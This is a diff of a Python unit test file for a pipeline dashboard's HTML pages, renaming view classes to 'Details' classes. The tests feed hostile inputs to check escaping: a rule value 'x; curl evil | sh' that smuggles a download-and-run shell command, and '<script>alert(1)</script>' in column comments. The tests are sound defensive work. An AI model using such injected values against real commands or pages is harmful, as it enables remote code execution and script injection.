@@ -14,9 +14,9 @@ from sluicegate.airflow.page.addresses import Addresses, Anchors
 from sluicegate.dashboard.batches import Balance, CommittedBatch
 from sluicegate.dashboard.days import Day
 from sluicegate.dashboard.flow_graph import Edge, Graph, Node
-from sluicegate.dashboard.one_table import ColumnSummary, TableView
+from sluicegate.dashboard.one_table import ColumnSummary, TableDetails
 from sluicegate.dashboard.overview import STATES, PipelineBacklog
-from sluicegate.dashboard.quarantined import QuarantineView, Reason
+from sluicegate.dashboard.quarantined import QuarantineDetails, Reason
 from tests.conftest import ROOT
 
 pytestmark = pytest.mark.unit
@@ -53,14 +53,14 @@ def test_numbers_and_times_in_words() -> None:
 
 
 def test_a_command_to_copy_has_no_other_one_in_it() -> None:
-    view = QuarantineView("p", "t", 1, (), "x; curl evil | sh", (), False, ())
+    view = QuarantineDetails("p", "t", 1, (), "x; curl evil | sh", (), False, ())
     text = html.page("quarantine", Addresses(""), view=view, pipeline="p", table="t", tab="quarantine", starts=False)
     assert "sluicegate replay p t --rule &#39;x; curl evil | sh&#39; --validate" in text
 
 
 @pytest.mark.parametrize(("text", "shown"), [("n > 0", True), ("", False)])
 def test_a_rule_that_the_definition_does_not_have_cannot_be_replayed(text: str, shown: bool) -> None:
-    view = QuarantineView("p", "t", 1, (Reason("old", text, False, 1, None, None),), "old", (), False, ())
+    view = QuarantineDetails("p", "t", 1, (Reason("old", text, False, 1, None, None),), "old", (), False, ())
     page = html.page("quarantine", Addresses(""), view=view, pipeline="p", table="t", tab="quarantine", starts=True)
     assert ("quarantine/replay" in page) is shown
 
@@ -160,7 +160,7 @@ def test_addresses_are_relative_and_quoted() -> None:
 
 def test_a_table_of_1000_columns_and_html_in_its_comments() -> None:
     columns = tuple(ColumnSummary(f"c{n}", "STRING", "<script>alert(1)</script>") for n in range(1000))
-    view = TableView("p", "silver", "t", comment="<b>bold</b>", exists=True, columns=columns, rows=1)
+    view = TableDetails("p", "silver", "t", comment="<b>bold</b>", exists=True, columns=columns, rows=1)
     text = html.page("table", Addresses(), view=view, pipeline="p", tab="table", table="t")
     assert text.count('<td data-label="Type"') == 1000
     assert "<script>alert" not in text
